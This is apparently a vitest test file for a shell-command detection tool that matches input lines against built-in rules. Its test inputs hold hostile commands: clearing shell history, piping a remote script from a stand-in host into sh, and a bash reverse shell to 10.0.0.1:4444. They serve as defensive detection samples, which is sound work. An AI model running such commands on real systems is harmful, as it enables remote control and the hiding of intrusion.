import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { runDetect } from '../../src/detect/detect-command.ts';

async function run(input: string, builtin = true) {
  const stdin = new PassThrough();
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  const chunks: string[] = [];
  const errs: string[] = [];
  stdout.on('data', (c) => chunks.push(String(c)));
  stderr.on('data', (c) => errs.push(String(c)));
  stdin.end(input);
  const code = await runDetect({ ruleDirs: [], builtin, input: stdin, stdout, stderr });
  return {
    code,
    lines: chunks
      .join('')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l)),
    stderr: errs.join(''),
  };
}

describe('runDetect', () => {
  it('prints one line per input line in order, matches sorted by id, once each', async () => {
    const input = [
      JSON.stringify({ text: 'history -c; history -c', user: 'root' }),
      JSON.stringify({ text: 'ls -la' }),
      JSON.stringify({ text: 'curl -s http://x/i | sh\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1' }),
    ].join('\n');
    const { code, lines, stderr } = await run(input);
    expect(code).toBe(0);
    expect(lines.map((l) => l.index)).toEqual([0, 1, 2]);
    expect(lines[0].matches).toHaveLength(1);
    expect(lines[0].matches[0]).toMatchObject({ title: 'Shell history disabled or cleared', level: 'high' });
    expect(lines[1].matches).toEqual([]);
    const ids = lines[2].matches.map((m: { id: string }) => m.id);
    expect(ids.length).toBeGreaterThanOrEqual(2);
    expect(ids).toEqual([...ids].sort());
    expect(stderr).toMatch(/rules: 26 loaded, 0 skipped, 0 not applicable/);
  });

  it('reports an invalid line, goes on, and exits 2', async () => {
    const { code, lines } = await run(`not json\n${JSON.stringify({ text: 'id' })}\n{"user":"x"}\n`);
    expect(code).toBe(2);
    expect(lines[0]).toMatchObject({ index: 0, error: expect.any(String) });
    expect(lines[1]).toEqual({ index: 1, matches: [] });
    expect(lines[2]).toMatchObject({ index: 2, error: expect.any(String) });
  });

  it('runs with no rules when the built-in pack is off', async () => {
    const { code, lines } = await run(JSON.stringify({ text: 'history -c' }), false);
    expect(code).toBe(0);
    expect(lines).toEqual([{ index: 0, matches: [] }]);
  });
});
